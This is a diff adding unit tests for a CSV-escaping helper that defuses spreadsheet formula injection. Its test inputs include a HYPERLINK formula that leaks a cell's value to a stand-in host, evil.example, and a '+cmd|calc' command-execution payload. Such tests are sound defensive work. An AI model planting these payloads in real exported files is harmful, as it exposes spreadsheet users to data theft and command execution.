@@ -1,0 +1,29 @@
+import { expect, test } from 'vitest'
+import { csvCell, csvLine } from './csvCell.ts'
+
+test.each([
+  '=HYPERLINK("https://evil.example?"&A1,"open")',
+  '=1+1',
+  '+cmd|calc',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+])('%j is text, and no formula', (attack) => {
+  const cell = csvCell(attack)
+  expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
+})
+
+test('a cell breaks out of neither its quotes nor its line', () => {
+  expect(csvLine(['a,b', 'say "hi"', 'two\r\nlines', 'plain'])).toBe('"a,b","say ""hi""","two\r\nlines",plain\r\n')
+  expect(csvCell('x","=1+1')).toBe('"x"",""=1+1"')
+})
+
+test('a number stays a number, also below zero', () => {
+  expect(csvLine([-1.25, 0, 12.3456])).toBe('-1.25,0,12.3456\r\n')
+})
+
+test('what begins with an apostrophe can be told from what got one', () => {
+  expect([csvCell("'=1"), csvCell('=1')]).toEqual(["''=1", "'=1"])
+})
